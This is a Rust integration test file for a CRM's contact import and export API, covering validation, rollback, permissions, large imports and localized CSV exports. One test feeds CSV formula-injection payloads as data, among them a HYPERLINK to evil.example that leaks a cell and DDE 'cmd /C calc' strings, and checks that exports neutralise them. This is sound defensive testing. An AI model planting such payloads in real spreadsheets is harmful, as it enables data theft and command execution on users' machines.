use std::time::{Duration, Instant};

use reqwest::StatusCode;
use serde_json::json;

use crate::helpers::{fields, problem, Session, TestApp};

async fn import(
    app: &TestApp,
    who: &Session,
    csv: &str,
    mapping: serde_json::Value,
    dry_run: bool,
    skip_invalid: bool,
) -> reqwest::Response {
    app.post(
        "/api/v1/contact-imports",
        Some(&who.token),
        &json!({"csv": csv, "mapping": mapping, "dry_run": dry_run, "skip_invalid": skip_invalid}),
    )
    .await
}

async fn finished(app: &TestApp, who: &Session, job: &domain::ImportJob) -> domain::ImportJob {
    finished_within(app, who, job, Duration::from_secs(30)).await
}

async fn finished_within(app: &TestApp, who: &Session, job: &domain::ImportJob, limit: Duration) -> domain::ImportJob {
    let deadline = Instant::now() + limit;
    loop {
        let now: domain::ImportJob =
            app.get(&format!("/api/v1/contact-imports/{}", job.id), &who.token).await.json().await.unwrap();
        if now.status != domain::ImportStatus::Running {
            return now;
        }
        assert!(Instant::now() < deadline, "import did not finish");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// The tab counts (from the counters) match the rows, and no bulk deltas are left over.
async fn assert_counts_match_rows(app: &TestApp, admin: &Session) {
    let page: domain::ContactPage = app.get("/api/v1/contacts", &admin.token).await.json().await.unwrap();
    let live = |status: &str| app.count(&format!("SELECT count(*) FROM contacts WHERE status = '{status}'"));
    let c = page.counts;
    assert_eq!(
        [c.to_contact, c.in_progress, c.won, c.lost],
        [live("to_contact"), live("in_progress"), live("won"), live("lost")]
    );
    assert_eq!(app.count("SELECT count(*) FROM contact_count_deltas"), 0);
}

const MIXED: &str = "Nome;E-mail;Telefone;Situação\n\
                     Ana;ana@x.test;(11) 98765-4321;com venda\n\
                     Bia;bia-sem-arroba;;a contatar\n\
                     Caio;caio@x.test;;em progresso\n\
                     Duda;existing@x.test;;\n";

fn mixed_mapping() -> serde_json::Value {
    json!({"name": "Nome", "email": "E-mail", "phone": "Telefone", "status": "Situação"})
}

#[tokio::test]
async fn a_dry_run_previews_the_import_and_writes_nothing() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    app.post("/api/v1/contacts", Some(&admin.token), &json!({"name": "X", "email": "existing@x.test"})).await;

    let res = import(&app, &admin, MIXED, mixed_mapping(), true, false).await;
    assert_eq!(res.status(), StatusCode::OK);
    let preview: domain::ImportPreview = res.json().await.unwrap();
    assert_eq!((preview.total_rows, preview.valid_rows, preview.would_create, preview.would_update), (4, 3, 2, 1));
    assert_eq!(
        preview.errors,
        [domain::ImportRowError { row: 2, field: "email".into(), message: "must be a valid e-mail address".into() }]
    );
    assert_eq!(preview.sample[0]["phone"], "+5511987654321");
    assert_eq!(preview.sample[0]["status"], "won");
    assert_eq!(app.count("SELECT count(*) FROM contacts"), 1);
    assert_eq!(app.count("SELECT count(*) FROM import_jobs"), 0);
}

#[tokio::test]
async fn invalid_rows_stop_the_whole_import_unless_skipped() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    app.post("/api/v1/contacts", Some(&admin.token), &json!({"name": "X", "email": "existing@x.test", "name": "Old"}))
        .await;

    let p = problem(import(&app, &admin, MIXED, mixed_mapping(), false, false).await, StatusCode::UNPROCESSABLE_ENTITY)
        .await;
    assert_eq!(fields(&p), ["rows[2].email"]);
    assert_eq!(app.count("SELECT count(*) FROM contacts"), 1);

    let res = import(&app, &admin, MIXED, mixed_mapping(), false, true).await;
    assert_eq!(res.status(), StatusCode::ACCEPTED);
    let job = finished(&app, &admin, &res.json().await.unwrap()).await;
    assert_eq!(job.status, domain::ImportStatus::Completed, "{:?}", job.error);
    assert_eq!((job.created, job.updated, job.skipped, job.processed_rows), (2, 1, 1, 4));
    assert_eq!(app.count("SELECT count(*) FROM contacts WHERE channel = 'import'"), 2);
    assert_eq!(app.count("SELECT count(*) FROM contacts WHERE email = 'ana@x.test' AND status = 'won'"), 1);
    assert_eq!(
        app.count("SELECT count(*) FROM contacts WHERE email = 'existing@x.test' AND name = 'Duda'"),
        1,
        "dedup updates"
    );
    assert_counts_match_rows(&app, &admin).await;
}

#[tokio::test]
async fn a_row_failing_during_the_import_rolls_everything_back() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    app.post("/api/v1/contacts", Some(&admin.token), &json!({"name": "X", "email": "x@x.test"})).await;
    app.post("/api/v1/contacts", Some(&admin.token), &json!({"name": "X", "phone": "+5511911112222"})).await;
    // Row 2 matches one contact by e-mail and would take the other's phone.
    let csv = "email,phone\nfresh@x.test,\nx@x.test,11 91111-2222\n";
    let res = import(&app, &admin, csv, json!({"email": "email", "phone": "phone"}), false, false).await;
    let job = finished(&app, &admin, &res.json().await.unwrap()).await;
    assert_eq!(job.status, domain::ImportStatus::Failed);
    assert!(job.error.unwrap().contains("row 2"));
    assert_eq!(app.count("SELECT count(*) FROM contacts"), 2, "row 1 was rolled back too");
    assert_counts_match_rows(&app, &admin).await;

    let res = import(&app, &admin, csv, json!({"email": "email", "phone": "phone"}), false, true).await;
    let job = finished(&app, &admin, &res.json().await.unwrap()).await;
    assert_eq!((job.status, job.created, job.skipped), (domain::ImportStatus::Completed, 1, 1));
    assert_counts_match_rows(&app, &admin).await;
}

#[tokio::test]
async fn bad_mappings_big_files_and_agents_are_refused() {
    let app = TestApp::spawn_with(|c| c.import_limit = 4096).await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    let agent = app.create_user(&admin, "bruno@acme.test", "agent").await;

    let p = problem(
        import(&app, &admin, "a,b\n1,2\n", json!({"email": "E-mail", "shoe_size": "a"}), true, false).await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(fields(&p), ["mapping.email", "mapping.shoe_size"]);
    let p = problem(
        import(&app, &admin, "a,b\n1,2\n", json!({"name": "a"}), true, false).await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(fields(&p), ["mapping"]);

    let big = format!("email\n{}", (0..400).map(|i| format!("p{i}@x.test\n")).collect::<String>());
    problem(import(&app, &admin, &big, json!({"email": "email"}), false, false).await, StatusCode::PAYLOAD_TOO_LARGE)
        .await;
    problem(
        import(&app, &agent, "email\na@x.test\n", json!({"email": "email"}), false, false).await,
        StatusCode::FORBIDDEN,
    )
    .await;
    assert_eq!(app.count("SELECT count(*) FROM contacts"), 0);
}

#[tokio::test]
async fn a_large_import_reports_progress_and_the_export_streams_it_back() {
    // Pages of 1,000 so the export below crosses page boundaries.
    let app = TestApp::spawn_with(|c| c.export_page_rows = 1000).await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    let rows: String = (0..2500).map(|i| format!("Pessoa {i},p{i}@x.test,google\n")).collect();
    let res = import(
        &app,
        &admin,
        &format!("name,email,source\n{rows}"),
        json!({"name": "name", "email": "email", "source": "source"}),
        false,
        false,
    )
    .await;
    let started: domain::ImportJob = res.json().await.unwrap();
    assert_eq!(started.total_rows, 2500);
    let job = finished(&app, &admin, &started).await;
    assert_eq!((job.status, job.created, job.processed_rows), (domain::ImportStatus::Completed, 2500, 2500));
    assert_counts_match_rows(&app, &admin).await;

    let res = app.get("/api/v1/contacts/export.csv?source=google&sort=oldest", &admin.token).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");
    let body = res.text().await.unwrap();
    let lines: Vec<&str> = body.lines().collect();
    assert_eq!(lines.len(), 2501, "header + every contact across pages");
    assert!(lines[0].starts_with("id,name,email,phone,status"));
    assert_eq!(app.count("SELECT count(DISTINCT email) FROM contacts"), 2500);

    let none = app.get("/api/v1/contacts/export.csv?source=nowhere", &admin.token).await.text().await.unwrap();
    assert_eq!(none.lines().count(), 1);
}

#[tokio::test]
async fn exports_contain_only_what_the_caller_may_see() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    let agent = app.create_user(&admin, "bruno@acme.test", "agent").await;
    app.post(
        "/api/v1/contacts",
        Some(&admin.token),
        &json!({"name": "X", "email": "mine@x.test", "assignee_id": agent.user.id}),
    )
    .await;
    app.post("/api/v1/contacts", Some(&admin.token), &json!({"name": "X", "email": "other@x.test"})).await;
    let other = app.signup("Other", "o@other.test").await;

    let agent_csv = app.get("/api/v1/contacts/export.csv", &agent.token).await.text().await.unwrap();
    assert!(agent_csv.contains("mine@x.test") && !agent_csv.contains("other@x.test"));
    let other_csv = app.get("/api/v1/contacts/export.csv", &other.token).await.text().await.unwrap();
    assert_eq!(other_csv.lines().count(), 1);
    problem(
        app.get(&format!("/api/v1/contact-imports/{}", uuid::Uuid::new_v4()), &admin.token).await,
        StatusCode::NOT_FOUND,
    )
    .await;
}

#[tokio::test]
async fn an_excel_brasil_export_has_semicolons_a_bom_portuguese_and_local_dates() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    let body = json!({"name": "Carla Mendes", "email": "carla@x.test", "tags": ["vip", "sp"]});
    let created: domain::ContactView =
        app.post("/api/v1/contacts", Some(&admin.token), &body).await.json().await.unwrap();

    let path = "/api/v1/contacts/export.csv?separator=semicolon&bom=true&lang=pt-BR&dates=dmy&utc_offset=-180";
    let bytes = app.get(path, &admin.token).await.bytes().await.unwrap();
    assert!(bytes.starts_with("\u{feff}".as_bytes()), "a byte-order mark first");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(header[..5], ["ID", "Nome", "E-mail", "Telefone", "Situação"]);
    assert_eq!(header.last().unwrap(), "Cadastrado em");
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!((&row[1], &row[4], &row[7], &row[19]), ("Carla Mendes", "A contatar", "Manual", "vip, sp"));
    let local = created.created_at - chrono::Duration::hours(3);
    assert_eq!(&row[21], local.format("%d/%m/%Y %H:%M").to_string());

    // The default stays the file for programs; a bad option names itself.
    let plain = app.get("/api/v1/contacts/export.csv", &admin.token).await.text().await.unwrap();
    assert!(plain.starts_with("id,name,email,phone,status,"), "{plain}");
    assert!(plain.contains(",to_contact,") && plain.contains("vip;sp"));
    for (query, field) in [("lang=fr", "lang"), ("utc_offset=900", "utc_offset"), ("separator=pipe", "separator")] {
        let res = app.get(&format!("/api/v1/contacts/export.csv?{query}"), &admin.token).await;
        assert!(res.status().is_client_error(), "{query}: {}", res.status());
        if res.status() == StatusCode::UNPROCESSABLE_ENTITY {
            assert_eq!(fields(&problem(res, StatusCode::UNPROCESSABLE_ENTITY).await), [field]);
        }
    }
}

#[tokio::test]
async fn exported_cells_never_run_as_spreadsheet_formulas() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    let site = app.create_site(&admin, "Loja").await;
    let names = [
        r#"=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    for (i, name) in names.iter().enumerate() {
        let res = app
            .request(reqwest::Method::POST, "/api/v1/leads", None)
            .header("x-site-key", site.public_key.clone())
            .json(&json!({"name": name, "email": format!("f{i}@x.test"), "phone": format!("+55119876500{i:02}"), "source": "=cmd"}))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::ACCEPTED);
    }
    let body = app.get("/api/v1/contacts/export.csv?sort=oldest", &admin.token).await.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), names.len());
    for (row, name) in rows.iter().zip(names) {
        // Leading tab/CR are trimmed on the way in; the unit test covers them in cells.
        assert_eq!(&row[1], format!("'{}", name.trim()), "the name is text");
        assert_eq!(&row[8], "'=cmd", "the source is text");
        assert!(row[3].starts_with("+55"), "a phone number stays a number: {}", &row[3]);
    }
}

#[tokio::test]
async fn rows_of_one_client_across_batches_make_one_contact_with_its_whole_change_log() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    // Row 1 and row 1,500 are the same client (by e-mail), in different write batches; row 2
    // repeats row 1's client by phone inside the batch.
    let mut csv =
        String::from("name,email,phone,status\nAna,ana@x.test,11 98765-4321,em progresso\n,,(11) 98765-4321,\n");
    for i in 3..1500 {
        csv.push_str(&format!("Pessoa {i},p{i}@x.test,,\n"));
    }
    csv.push_str("Ana Souza,ANA@x.test,,com venda\n");
    let mapping = json!({"name": "name", "email": "email", "phone": "phone", "status": "status"});
    let res = import(&app, &admin, &csv, mapping, false, false).await;
    let job = finished(&app, &admin, &res.json().await.unwrap()).await;
    assert_eq!(job.status, domain::ImportStatus::Completed, "{:?}", job.error);
    assert_eq!((job.created, job.updated, job.processed_rows), (1498, 2, 1500));
    assert_eq!(
        app.count("SELECT count(*) FROM contacts WHERE email = 'ana@x.test' AND name = 'Ana Souza' AND status = 'won'"),
        1
    );
    let log: Vec<String> = {
        use diesel::prelude::*;
        #[derive(QueryableByName)]
        struct Entry {
            #[diesel(sql_type = diesel::sql_types::Text)]
            entry: String,
        }
        diesel::sql_query(
            "SELECT a.field || ':' || coalesce(a.old_value::text, '') || '>' || coalesce(a.new_value::text, '') AS entry
             FROM contact_activities a JOIN contacts c ON c.id = a.contact_id
             WHERE c.email = 'ana@x.test' ORDER BY a.id",
        )
        .load::<Entry>(&mut app.conn())
        .unwrap()
        .into_iter()
        .map(|e| e.entry)
        .collect()
    };
    assert_eq!(
        log,
        [
            "created:>\"import\"",
            "status:\"to_contact\">\"in_progress\"",
            "name:\"Ana\">\"Ana Souza\"",
            "status:\"in_progress\">\"won\"",
        ]
    );
    assert_counts_match_rows(&app, &admin).await;
}

/// A regression guard, not a benchmark (`make bench` measures imports): ten times the rows
/// must take about ten times as long on a new account, never the 30 times or more that lookups
/// scanning the import's own (uncommitted, so unseen by statistics) rows took. Two shapes of
/// database, each of which made one earlier lookup quadratic: a new one with no statistics,
/// and one whose statistics know a single big account and nothing of the new ones. The bound
/// is relative to small imports timed in the same run (the faster of two, so one slowed by a
/// parallel test does not lower the bar): linear measures 9–11× here, the two earlier lookups
/// 31× and 124×.
#[tokio::test]
async fn an_import_ten_times_larger_takes_about_ten_times_longer() {
    let app = TestApp::spawn().await;
    let mapping = json!({"name": "name", "email": "email", "phone": "phone", "source": "source"});
    let csv = |n: usize| -> String {
        let rows: String =
            (0..n).map(|i| format!("Pessoa {i},p{i}@x.test,11 9{:04}-{:04},feira\n", i / 10_000, i % 10_000)).collect();
        format!("name,email,phone,source\n{rows}")
    };
    let timed_import = |account: &'static str, rows: usize| {
        let (app, mapping, body) = (&app, mapping.clone(), csv(rows));
        async move {
            let admin = app.signup(account, &format!("admin@{}.test", account.to_lowercase())).await;
            let started = Instant::now();
            let res = import(app, &admin, &body, mapping, false, false).await;
            let job = finished_within(app, &admin, &res.json().await.unwrap(), Duration::from_secs(300)).await;
            assert_eq!((job.status, job.created), (domain::ImportStatus::Completed, rows as i32), "{:?}", job.error);
            started.elapsed().as_secs_f64()
        }
    };
    let small = timed_import("Small", 2_000).await.min(timed_import("Again", 2_000).await);
    let fresh = timed_import("Large", 20_000).await;
    let other = app.signup("Other", "admin@other.test").await;
    app.conn_exec_slow(&format!(
        "INSERT INTO contacts (id, account_id, email, first_contact_at, channel) \
         SELECT gen_random_uuid(), '{}', 'o' || i || '@x.test', now(), 'import' FROM generate_series(1, 30000) i",
        other.user.account_id
    ))
    .await;
    app.conn_exec_slow("ANALYZE contacts").await;
    let analysed = timed_import("Later", 20_000).await;
    for (shape, took) in [("a new database", fresh), ("next to a big account", analysed)] {
        let ratio = took / small;
        assert!(
            ratio < 20.0,
            "{shape}: 2,000 rows took {small:.2} s, 20,000 took {took:.2} s: {ratio:.1}× (linear is ~10×)"
        );
    }
}

#[tokio::test]
async fn a_big_file_is_sent_as_the_body_itself() {
    let app = TestApp::spawn_with(|c| c.import_csv_limit = 64 * 1024).await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    let send = |query: String, body: String, token: String| {
        let req = app.request(reqwest::Method::POST, &format!("/api/v1/contact-imports?{query}"), Some(&token));
        async move { req.header("content-type", "text/csv; charset=utf-8").body(body).send().await.unwrap() }
    };
    let csv = "Nome;E-mail\nAna;ana@x.test\nBia;bia-sem-arroba\n".to_string();
    let mapping = "mapping=%7B%22name%22%3A%22Nome%22%2C%22email%22%3A%22E-mail%22%7D";

    let res = send(format!("{mapping}&dry_run=true"), csv.clone(), admin.token.clone()).await;
    assert_eq!(res.status(), StatusCode::OK);
    let preview: domain::ImportPreview = res.json().await.unwrap();
    assert_eq!((preview.total_rows, preview.valid_rows, preview.would_create), (2, 1, 1));
    let res = send(mapping.to_string(), csv.clone(), admin.token.clone()).await;
    assert_eq!(fields(&problem(res, StatusCode::UNPROCESSABLE_ENTITY).await), ["rows[2].email"]);
    let res = send(format!("{mapping}&skip_invalid=true"), csv.clone(), admin.token.clone()).await;
    assert_eq!(res.status(), StatusCode::ACCEPTED);
    let job = finished(&app, &admin, &res.json().await.unwrap()).await;
    assert_eq!((job.status, job.created, job.skipped), (domain::ImportStatus::Completed, 1, 1));

    for (query, field) in [
        ("", "mapping"),
        ("mapping=name", "mapping"),
        ("mapping=%7B%22colour%22%3A%22Nome%22%2C%22email%22%3A%22E-mail%22%7D", "mapping.colour"),
    ] {
        let res = send(query.to_string(), csv.clone(), admin.token.clone()).await;
        assert_eq!(fields(&problem(res, StatusCode::UNPROCESSABLE_ENTITY).await), [field], "{query}");
    }
    let res = send(mapping.to_string(), String::new(), admin.token.clone()).await;
    assert_eq!(fields(&problem(res, StatusCode::UNPROCESSABLE_ENTITY).await), ["csv"]);
    let res = send("dry_run=maybe".to_string(), csv.clone(), admin.token.clone()).await;
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    let big: String = (0..6000).map(|i| format!("P{i};p{i}@x.test\n")).collect();
    let res = send(mapping.to_string(), format!("Nome;E-mail\n{big}"), admin.token.clone()).await;
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let agent = app.create_user(&admin, "bia@acme.test", "agent").await;
    assert_eq!(send(mapping.to_string(), csv, agent.token).await.status(), StatusCode::FORBIDDEN);
    assert_eq!(app.count("SELECT count(*) FROM contacts"), 1);
}

#[tokio::test]
async fn columns_set_the_assignee_by_email_custom_fields_and_a_note() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    let agent = app.create_user(&admin, "bruno@acme.test", "agent").await;
    // Another account's user is no one here.
    let _other = app.signup("Other", "zed@other.test").await;
    let field = json!({"key": "plan", "label": "Plano", "kind": "select", "options": ["Gold", "Silver"]});
    assert_eq!(app.post("/api/v1/custom-fields", Some(&admin.token), &field).await.status(), StatusCode::CREATED);
    let field = json!({"key": "budget", "label": "Verba", "kind": "number"});
    assert_eq!(app.post("/api/v1/custom-fields", Some(&admin.token), &field).await.status(), StatusCode::CREATED);
    let known: domain::ContactView = app
        .post("/api/v1/contacts", Some(&admin.token), &json!({"name": "Maria", "email": "maria@x.test"}))
        .await
        .json()
        .await
        .unwrap();

    let csv = "E-mail;Responsável;Obs;Plano;Verba\n\
               maria@x.test;BRUNO@acme.test;Ligar cedo;gold;1.500,50\n\
               novo@x.test;bruno@acme.test;;Silver;\n\
               zed@x.test;zed@other.test;;Bronze;muito\n";
    let mapping = json!({"email": "E-mail", "assignee": "Responsável", "notes": "Obs",
                         "custom.plan": "Plano", "custom.budget": "Verba"});
    let refused =
        problem(import(&app, &admin, csv, mapping.clone(), false, false).await, StatusCode::UNPROCESSABLE_ENTITY).await;
    let mut named = fields(&refused);
    named.sort();
    assert_eq!(named, ["rows[3].assignee", "rows[3].custom.budget", "rows[3].custom.plan"]);
    assert_eq!(app.count("SELECT count(*) FROM contacts"), 1, "nothing written");

    // A mapping naming a field the account lacks is refused as a whole.
    let bad = json!({"email": "E-mail", "custom.cpf": "Obs"});
    let refused = problem(import(&app, &admin, csv, bad, true, false).await, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(fields(&refused), ["mapping.custom.cpf"]);

    let res = import(&app, &admin, csv, mapping, false, true).await;
    assert_eq!(res.status(), StatusCode::ACCEPTED);
    let done = finished(&app, &admin, &res.json().await.unwrap()).await;
    assert_eq!((done.created, done.updated, done.skipped), (1, 1, 1));

    let maria: domain::ContactDetail =
        app.get(&format!("/api/v1/contacts/{}", known.id), &admin.token).await.json().await.unwrap();
    assert_eq!(maria.contact.assignee_id, Some(agent.user.id));
    assert_eq!(maria.contact.custom_fields, json!({"plan": "Gold", "budget": 1500.5}));
    assert_eq!(maria.notes.len(), 1);
    assert_eq!((maria.notes[0].body.as_str(), maria.notes[0].author_id), ("Ligar cedo", Some(admin.user.id)));
    // The agent now sees both clients assigned to them, quietly (no e-mail per row).
    let page: domain::ContactPage = app.get("/api/v1/contacts", &agent.token).await.json().await.unwrap();
    assert_eq!(page.items.len(), 2);
    assert_eq!(app.count("SELECT count(*) FROM contact_activities WHERE field = 'assignee_id'"), 2);
    assert_eq!(app.count("SELECT count(*) FROM contact_activities WHERE field = 'note'"), 1);
    // Found by the note's words.
    let found: domain::ContactPage = app.get("/api/v1/contacts?q=cedo", &admin.token).await.json().await.unwrap();
    assert_eq!(found.items.iter().map(|c| c.id).collect::<Vec<_>>(), [known.id]);
}

/// A file sharing a client's phone: the preview names the client and every field that would
/// change, and the import does what `existing` says: replace, fill the gaps, or leave it.
#[tokio::test]
async fn an_import_previews_whom_it_changes_and_updates_fills_or_skips_them() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Acme", "ana@acme.test").await;
    let maria: domain::ContactView = app
        .post("/api/v1/contacts", Some(&admin.token), &json!({"name": "Maria Silva", "phone": "(11) 98765-4321"}))
        .await
        .json()
        .await
        .unwrap();
    let csv = "Nome;Telefone;E-mail;Cidade;Situação\nCarla Mendes;(11) 98765-4321;carla@x.test;Santos;com venda\nNova;(11) 91234-5678;;;\n";
    let mapping =
        json!({"name": "Nome", "phone": "Telefone", "email": "E-mail", "city": "Cidade", "status": "Situação"});
    let send = |existing: &'static str, dry_run: bool| {
        let body = json!({"csv": csv, "mapping": mapping.clone(), "dry_run": dry_run, "existing": existing});
        let request = app.request(reqwest::Method::POST, "/api/v1/contact-imports", Some(&admin.token));
        async move { request.json(&body).send().await.unwrap() }
    };
    let changes = |p: &domain::ImportPreview| -> Vec<(String, Option<String>, Option<String>)> {
        assert!(p.updates.iter().all(|u| u.contact_id == maria.id && u.label == "Maria Silva"), "{:?}", p.updates);
        p.updates
            .iter()
            .flat_map(|u| u.changes.iter().map(|c| (c.field.clone(), c.from.clone(), c.to.clone())))
            .collect()
    };
    let s = |v: &str| Some(v.to_string());

    let update: domain::ImportPreview = send("update", true).await.json().await.unwrap();
    assert_eq!((update.would_create, update.would_update), (1, 1));
    let mut got = changes(&update);
    got.sort();
    assert_eq!(
        got,
        [
            ("city".into(), None, s("Santos")),
            ("email".into(), None, s("carla@x.test")),
            ("name".into(), s("Maria Silva"), s("Carla Mendes")),
            ("status".into(), s("to_contact"), s("won")),
        ]
    );
    let fill: domain::ImportPreview = send("fill_empty", true).await.json().await.unwrap();
    let mut got = changes(&fill);
    got.sort();
    assert_eq!(got, [("city".into(), None, s("Santos")), ("email".into(), None, s("carla@x.test"))]);
    let skip: domain::ImportPreview = send("skip", true).await.json().await.unwrap();
    assert!(skip.updates.is_empty());
    // A preview writes nothing.
    assert_eq!(app.count("SELECT count(*) FROM contacts"), 1);

    // Filling the gaps keeps her name and status.
    let job: domain::ImportJob = send("fill_empty", false).await.json().await.unwrap();
    let job = finished(&app, &admin, &job).await;
    assert_eq!((job.status, job.created, job.updated), (domain::ImportStatus::Completed, 1, 1));
    let now: domain::ContactDetail =
        app.get(&format!("/api/v1/contacts/{}", maria.id), &admin.token).await.json().await.unwrap();
    assert_eq!(
        (now.contact.name.as_deref(), now.contact.email.as_deref(), now.contact.status),
        (Some("Maria Silva"), Some("carla@x.test"), domain::ContactStatus::ToContact)
    );
    // Skipping leaves her alone and says so.
    let before = app.count(&format!("SELECT count(*) FROM contact_activities WHERE contact_id = '{}'", maria.id));
    let job: domain::ImportJob = send("skip", false).await.json().await.unwrap();
    let job = finished(&app, &admin, &job).await;
    assert_eq!((job.created, job.updated, job.skipped), (0, 0, 2));
    assert_eq!(
        app.count(&format!("SELECT count(*) FROM contact_activities WHERE contact_id = '{}'", maria.id)),
        before
    );
    let p = problem(send("overwrite", true).await, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(fields(&p), ["existing"]);
}
